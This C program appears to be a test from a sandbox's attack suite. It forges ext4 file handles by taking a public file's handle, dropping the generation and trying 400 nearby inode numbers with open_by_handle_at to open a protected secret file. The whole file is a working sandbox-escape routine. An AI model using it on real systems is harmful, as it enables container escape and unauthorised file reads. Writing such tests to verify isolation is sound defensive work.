/* SPDX-License-Identifier: Apache-2.0 */
/* A file handle made up: that of a public file, with the numbers of other
 * inodes near it in its place and without a generation, which ext4 takes for
 * any. */
#include <sys/stat.h>

#include "attack.h"

struct handle {
	struct file_handle h;
	unsigned char bytes[128];
};

int main(int argc, char **argv)
{
	struct handle handle = { .h.handle_bytes = 128 };
	char *pub;
	uint32_t *word;
	struct stat st;
	int mount_id, mount_fd;

	attack_init(argc, argv);
	pub = in_dir(PUBLIC "/data");
	mount_fd = open(in_dir(PUBLIC), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	need(mount_fd >= 0 && stat(pub, &st) == 0);
	if (name_to_handle_at(AT_FDCWD, pub, &handle.h, &mount_id, 0) < 0 ||
	    handle.h.handle_bytes != 8)
		cannot("no handles of this kind here: %s", strerror(errno));
	word = (void *)handle.bytes;
	if (word[0] != (uint32_t)st.st_ino)
		cannot("handles are no numbers of inodes here");
	word[1] = 0;
	if (open_by_handle_at(mount_fd, &handle.h, O_RDONLY) < 0 &&
	    getenv("ATTACK_CONTROL"))
		cannot("handles may not be opened: %s", strerror(errno));
	/* Without gosup the number can be had, and need not be near. */
	if (getenv("ATTACK_CONTROL"))
		need(stat(secret_file(), &st) == 0);
	for (uint32_t i = 0; i < 400; i++) {
		word[0] = (uint32_t)st.st_ino - 200 + i;
		check_fd(open_by_handle_at(mount_fd, &handle.h, O_RDONLY | O_NONBLOCK),
			 "a handle made up");
	}
	held();
}
